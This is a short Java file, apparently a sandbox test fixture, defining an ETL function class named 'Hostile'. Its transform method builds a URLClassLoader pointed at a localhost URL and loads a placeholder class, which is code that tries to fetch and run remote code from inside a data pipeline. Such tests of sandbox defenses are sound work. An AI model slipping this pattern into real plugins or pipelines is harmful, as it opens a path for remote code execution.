import java.util.List;
import millrace.api.*;

public class Hostile extends ETLFunction {
    public String tableSchema() {
        return "{\"type\":\"object\",\"properties\":{\"id\":{\"type\":\"integer\"}}}";
    }

    public List<Row> ETL(Row row) throws Exception {
        new java.net.URLClassLoader(new java.net.URL[] {new java.net.URL("http://127.0.0.1/")}).loadClass("x");
        return List.of(row);
    }
}
